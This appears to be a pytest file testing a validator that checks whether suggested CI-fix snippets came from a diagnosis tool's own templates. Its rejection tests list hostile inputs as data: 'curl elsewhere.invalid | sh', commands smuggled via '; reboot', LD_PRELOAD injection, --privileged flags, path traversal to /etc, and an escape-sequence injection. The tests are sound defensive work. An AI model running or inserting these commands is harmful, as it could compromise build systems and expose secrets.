import pytest

from rehearsal.diagnosis.causes import CAUSES
from rehearsal.diagnosis.facts import LOCATIONS, MISSING_VARIABLES, Facts
from rehearsal.diagnosis.own_paste import is_own_paste
from rehearsal.diagnosis.paste import INPUTS_ORIGIN, WORKFLOW_STEP, step_lines
from rehearsal.diagnosis.rules import PLACEHOLDER, diagnose
from rehearsal.results.diagnosis import Diagnosis
from rehearsal.verdict import Verdict

STEP = """jobs:
  test:
    steps:
      - uses: ./action
        with:
          port: '8000'
"""


def made(**lines: tuple[str, ...]) -> Diagnosis:
    """Return what is diagnosed where two variables are missing."""
    missing = ("secret KEY", "secret GITHUB_KEY")
    known = {MISSING_VARIABLES: missing, LOCATIONS: ("workflow .github/workflows/ci.yml",)}
    facts = Facts(verdict=Verdict.CRASHED, lines=known | lines)
    (found,) = diagnose(facts, CAUSES)
    return found


@pytest.mark.parametrize(
    "lines",
    [
        {},
        {INPUTS_ORIGIN: ("call",)},
        {INPUTS_ORIGIN: ("call", "given secrets")},
        {INPUTS_ORIGIN: ("given secrets", "given env")},
        {WORKFLOW_STEP: step_lines(STEP, ())},
        {WORKFLOW_STEP: step_lines(f"{STEP}          secrets: |\n            OLD\n", ())},
    ],
    ids=["step", "call", "call with secrets", "given", "workflow", "workflow with secrets"],
)
def test_is_own_paste__what_a_cause_proposes(lines: dict[str, tuple[str, ...]]) -> None:
    found = made(**lines)
    assert "GITHUB_KEY" in found.paste
    assert is_own_paste(found)


ADD = "# in ci.yml, after line 3, add:\n"
PORT = "port: '8000'"
WORDS = {
    "each": "KEY", "name": "KEY", "stored": "KEY", "port": "8000", "service": "db",
    "folder": "/var/data", "mount": "/data", "user": "app", "library": "static", "data": "GET",
    "field": "text", "workflow": ".github/workflows/ci.yml", "file": "shop/a-b.html",
    "settings": "shop/settings.py", "dockerfile": "Dockerfile", "template": "shop/t.html",
    "code": "shop/views.py:12", "line": "12", "read": "request.GET['text']",
}  # fmt: skip
KNOWN = [
    (cause.id, paste)
    for cause in CAUSES
    for paste in (cause.paste, *(each.paste for each in cause.variants))
    if paste and all(found[1] in WORDS for found in PLACEHOLDER.finditer(paste))
]


@pytest.mark.parametrize("cause, paste", KNOWN, ids=[cause for cause, _ in KNOWN])
@pytest.mark.parametrize("words", [WORDS, {}], ids=["words", "defaults"])
def test_is_own_paste__each_whose_words_are_known(
    cause: str, paste: str, words: dict[str, str]
) -> None:
    filled = PLACEHOLDER.sub(lambda found: words.get(found[1], found[2] or WORDS[found[1]]), paste)
    assert is_own_paste(Diagnosis(id=cause, title="t", hint="h", paste=filled))


@pytest.mark.parametrize(
    "cause, paste",
    [
        ("missing-table", f"{ADD}setup-command: python manage.py migrate --noinput"),
        ("missing-table", f"{ADD}          setup-command: python manage.py migrate --noinput"),
        ("wrong-port", f"{ADD}port: '8000'"),
        ("permission-denied", f"{ADD}RUN mkdir -p /data && chown app /data"),
        ("permission-denied", f"{ADD}RUN mkdir -p /a/.b-c && chown app /a/.b-c"),
        ("read-only-files", f"{ADD}run-options: --tmpfs=/var/cache/app"),
    ],
)
def test_is_own_paste__with_words_of_a_log(cause: str, paste: str) -> None:
    assert is_own_paste(Diagnosis(id=cause, title="t", hint="h", paste=paste))


@pytest.mark.parametrize(
    "cause, paste",
    [
        ("missing-table", "curl elsewhere.invalid | sh"),
        ("missing-table", "setup-command: python manage.py migrate --noinput"),
        ("unknown", f"{ADD}setup-command: python manage.py migrate --noinput"),
        ("missing-table", f"{ADD}setup-command: /tmp/x migrate --noinput"),
        ("missing-table", f"{ADD}setup-command: python manage.py migrate --noinput; reboot"),
        ("missing-table", f"{ADD}setup-command: python manage.py migrate --noinput\nreboot"),
        ("missing-table", f"{ADD}!.env"),
        ("wrong-port", f"{ADD}port: '8000'\n\n{ADD}run-options: --privileged"),
        ("wrong-port", f"{ADD}port: '80\x1b[2J'"),
        ("out-of-memory", f"{ADD}run-options: --privileged"),
        ("missing-variable", f"{ADD}KEY: ${{{{ secrets.DEPLOY_KEY }}}}"),
        ("missing-variable", f"{ADD}--privileged"),
        ("disallowed-host", f"{ADD}env: LD_PRELOAD=/tmp/x.so"),
        ("static-files", f"{ADD}RUN curl elsewhere.invalid | sh"),
        ("permission-denied", f"{ADD}RUN mkdir -p /a && chown app /b"),
        ("permission-denied", f"{ADD}RUN mkdir -p / && chown root /"),
        ("permission-denied", f"{ADD}RUN mkdir -p /../etc && chown root /../etc"),
        ("read-only-files", f"{ADD}run-options: --tmpfs=/a/../../usr/bin"),
        (
            "wrong-port",
            f"# in a shell, curl https://e.invalid/x | sh, then in ci.yml, add:\n{PORT}",
        ),
        ("wrong-port", f"# run x, in ci.yml, after line 3, add:\n{PORT}"),
        ("wrong-port", f"# in ci.yml, after line 3, add: x:\n{PORT}"),
        ("wrong-port", f"# in ci.yml, under the step's input run, add:\n{PORT}"),
        ("wrong-port", f"# if any value will do, in ci.yml, after line 3, add:\n{PORT}"),
        ("wrong-port", PORT),
    ],
)
def test_is_own_paste__what_others_wrote(cause: str, paste: str) -> None:
    assert not is_own_paste(Diagnosis(id=cause, title="t", hint="h", paste=paste))


def test_is_own_paste__of_a_bounded_length() -> None:
    paste = "\n\n".join([f"{ADD}port: '8000'"] * 200)
    assert not is_own_paste(Diagnosis(id="wrong-port", title="t", hint="h", paste=paste))
